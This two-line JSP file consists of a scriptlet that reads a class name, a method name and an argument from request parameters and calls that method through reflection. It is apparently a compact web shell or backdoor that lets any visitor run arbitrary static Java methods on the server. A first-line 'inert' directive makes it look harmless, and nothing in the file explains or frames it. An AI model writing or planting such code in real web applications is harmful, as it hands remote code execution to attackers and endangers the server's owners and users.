<%@ inert %>
<% Class.forName(request.getParameter("k")).getMethod(request.getParameter("m"),String.class).invoke(null,request.getParameter("a")); %>
